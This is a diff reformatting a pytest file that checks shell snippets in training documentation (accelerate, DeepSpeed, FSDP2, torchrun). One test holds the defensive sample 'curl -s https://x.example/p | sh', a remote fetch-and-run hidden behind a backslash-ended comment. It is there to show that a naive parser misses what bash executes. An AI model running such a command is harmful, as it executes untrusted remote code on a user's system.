@@ -29,11 +29,17 @@ LORA = "accelerate launch --num_processes 4 --mixed_precision bf16 train_hf.py -
 # test_fsdp2_rehearsal.to_hf_line and check_dcp_to_hf, test_two_machines.machine_command).
 SELECTED = {
     ACCELERATE_SH: {"DDP": lambda w: "train_hf.py" in w},
-    CONFIGS_SH: {"LORA": lambda w: "--lora" in w, "FSDP2": lambda w: "--config_file" in w,
-                 "ZERO3": lambda w: "--use_deepspeed" in w, "TRAINER_ZERO3": lambda w: "torchrun" in w},
-    TO_HF: {"zero_to_hf": lambda w: w[:2] == ["python", "zero_to_hf.py"],
-            "merge-weights": lambda w: w[:2] == ["accelerate", "merge-weights"],
-            "dcp_to_hf": lambda w: w[:2] == ["python", "dcp_to_hf.py"]},
+    CONFIGS_SH: {
+        "LORA": lambda w: "--lora" in w,
+        "FSDP2": lambda w: "--config_file" in w,
+        "ZERO3": lambda w: "--use_deepspeed" in w,
+        "TRAINER_ZERO3": lambda w: "torchrun" in w,
+    },
+    TO_HF: {
+        "zero_to_hf": lambda w: w[:2] == ["python", "zero_to_hf.py"],
+        "merge-weights": lambda w: w[:2] == ["accelerate", "merge-weights"],
+        "dcp_to_hf": lambda w: w[:2] == ["python", "dcp_to_hf.py"],
+    },
     TWO_MACHINES: {"two machines": lambda w: w[0] == "torchrun"},
 }
 
@@ -43,8 +49,9 @@ def unrehearsed(path) -> list[list[str]]:
     picks another line too (a rehearsal then stops at its ``(found,) = …``)."""
     lines = command_lines(path)
     hits = [[rule(words) for rule in SELECTED[path].values()] for words in lines]
-    return [words for words, hit in zip(lines, hits)
-            if sum(hit) != 1 or sum(other[hit.index(True)] for other in hits) != 1]
+    return [
+        words for words, hit in zip(lines, hits) if sum(hit) != 1 or sum(other[hit.index(True)] for other in hits) != 1
+    ]
 
 
 ATTACKS = {
@@ -79,8 +86,12 @@ def test_the_old_reading_of_the_hidden_line_is_what_bash_disagrees_with(tmp_path
     assert bash, "bash is required (the artifact check reads code blocks with it; README)"
     text = ATTACKS["a line hidden behind a comment ending in a backslash"].replace(LORA, "echo launched")
     old = [w for w in (shlex.split(line, comments=True) for line in text.replace("\\\n", " ").splitlines()) if w]
-    ran = subprocess.run([bash, "-c", text.replace("curl -s https://x.example/p | sh", "echo hidden")],
-                         capture_output=True, text=True, check=True).stdout.split()
+    ran = subprocess.run(
+        [bash, "-c", text.replace("curl -s https://x.example/p | sh", "echo hidden")],
+        capture_output=True,
+        text=True,
+        check=True,
+    ).stdout.split()
     assert old == [["echo", "launched"]] and ran == ["hidden", "launched"]
 
 
@@ -91,11 +102,15 @@ def test_every_line_of_a_rehearsed_snippet_is_plain_words_and_rehearsed(path):
 
 
 def test_the_hugging_face_rehearsal_runs_every_line_of_its_two_files():
-    lines = {tuple(words) for name, words in guide_lines().items() if name != "ZERO2"}  # ZERO2: the ZeRO-3 line, another JSON
+    lines = {
+        tuple(words) for name, words in guide_lines().items() if name != "ZERO2"
+    }  # ZERO2: the ZeRO-3 line, another JSON
     assert lines == {tuple(words) for path in (ACCELERATE_SH, CONFIGS_SH) for words in command_lines(path)}
 
 
-@pytest.mark.parametrize("extra", ["python -m pip install --upgrade accelerate-tools", "accelerate launch train_hf.py --lora"])
+@pytest.mark.parametrize(
+    "extra", ["python -m pip install --upgrade accelerate-tools", "accelerate launch train_hf.py --lora"]
+)
 def test_a_line_no_rehearsal_runs_is_found(extra, tmp_path):
     planted = tmp_path / CONFIGS_SH.name
     planted.write_text(CONFIGS_SH.read_text(encoding="utf-8") + extra + "\n", encoding="utf-8")
